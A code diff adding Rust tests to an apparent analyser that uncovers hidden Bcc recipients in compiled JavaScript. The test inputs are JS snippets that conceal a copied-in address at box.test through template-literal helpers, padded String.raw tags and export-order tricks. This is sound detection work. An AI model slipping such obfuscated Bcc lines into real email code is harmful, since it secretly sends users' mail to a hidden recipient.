@@ -235,3 +235,51 @@ fn the_rest_of_a_list_begins_behind_what_was_taken() {
     ));
     assert!(counted.iter().any(|fact| fact.identity().contains("recipient=a2@box.test")), "{counted:#?}");
 }
+
+/// The strings of a template before a tag, as a list that has them as they are written too.
+const TEMPLATE: &str = "\
+var t = (this && this.t) || function (cooked, raw) { Object.defineProperty(cooked, 'raw', { value: raw }); return cooked; };
+";
+
+#[test]
+fn what_a_module_does_not_have_of_itself_is_the_helper_behind_it() {
+    let pick = "String.raw(s || (s = t(['a@box.test'], ['\\\\a\\\\@box\\\\.test']))).split('\\\\').join('')";
+    compiled(
+        &format!(
+            "{TEMPLATE}exports.send = function (To) {{ return client.sendEmail({{ To: To, Bcc: {pick} }}); }}; var s;"
+        ),
+        "role=bcc recipient=a@box.test",
+    );
+    // Who exports one of that name means his own.
+    compiled(
+        "exports.pick = function (address) { return 'b' + address; };\n\
+         var pick = (this && this.pick) || function (address) { return address; };\n\
+         exports.send = function (To) { return client.sendEmail({ To: To, Bcc: pick('a@box.test') }); };",
+        "role=bcc recipient=ba@box.test",
+    );
+}
+
+#[test]
+fn a_tag_that_applies_a_function_of_the_language_is_computed() {
+    compiled(
+        "var lace = function (strings) { for (var n = arguments.length, rest = new Array(n > 1 ? n - 1 : 0), i = 1; i < n; i++) { \
+         rest[i - 1] = arguments[i]; } return String.raw.apply(String, [{ raw: strings }].concat(rest)).replace(/(.)./g, '$1'); };\n\
+         exports.send = function (To) { return client.sendEmail({ To: To, Bcc: lace(['ax@xbxoxxx.xtxexsxtx']) }); };",
+        "role=bcc recipient=a@box.test",
+    );
+}
+
+#[test]
+fn exports_are_listed_as_the_module_has_them() {
+    compiled(
+        "Object.defineProperty(exports, '__esModule', { value: true }); exports.zone = exports.mark = void 0;\n\
+         exports.mark = 'x'; exports.zone = 'a@box.test';\n\
+         exports.send = function (To) { return client.sendEmail({ To: To, Bcc: Object.values(exports)[1] }); };",
+        "role=bcc recipient=a@box.test",
+    );
+    compiled(
+        "exports.zone = 'a@box.test'; exports.mark = 'x'; Object.defineProperty(exports, 'back', { value: 'b@box.test' });\n\
+         exports.send = function (To) { return client.sendEmail({ To: To, Bcc: Object.values(exports)[0] }); };",
+        "role=bcc recipient=a@box.test",
+    );
+}
